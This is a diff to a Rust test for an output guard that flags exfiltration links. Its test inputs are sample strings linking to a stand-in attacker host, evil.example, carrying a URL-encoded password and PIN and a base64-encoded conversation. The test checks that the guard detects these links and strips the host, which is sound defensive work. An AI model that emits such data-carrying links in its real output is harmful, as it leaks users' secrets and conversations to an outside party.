@@ -78,12 +78,20 @@ fn exfil_html_image_tag_and_srcset() {
 #[test]
 fn exfil_autolinked_and_bare_urls_carrying_text() {
     let g = guard();
-    for text in [
-        "Click <https://evil.example/collect?data=the%20user%27s%20password%20is%20hunter2%20and%20pin%201234> to continue.",
-        "Visit https://evil.example/c?x=SGVyZSBpcyB0aGUgd2hvbGUgY29udmVyc2F0aW9u now.",
+    for (text, want) in [
+        // The carried text gives a password too ("password is hunter2"), found in the decoded
+        // query.
+        (
+            "Click <https://evil.example/collect?data=the%20user%27s%20password%20is%20hunter2%20and%20pin%201234> to continue.",
+            &["exfil.link", "secret.password"][..],
+        ),
+        (
+            "Visit https://evil.example/c?x=SGVyZSBpcyB0aGUgd2hvbGUgY29udmVyc2F0aW9u now.",
+            &["exfil.link"][..],
+        ),
     ] {
         let v = g.check_output(&Context::new(), text);
-        assert_eq!(ids(&v), ["exfil.link"], "{text}");
+        assert_eq!(ids(&v), want, "{text}");
         assert!(!v.text().contains("evil.example"), "{}", v.text());
     }
 }
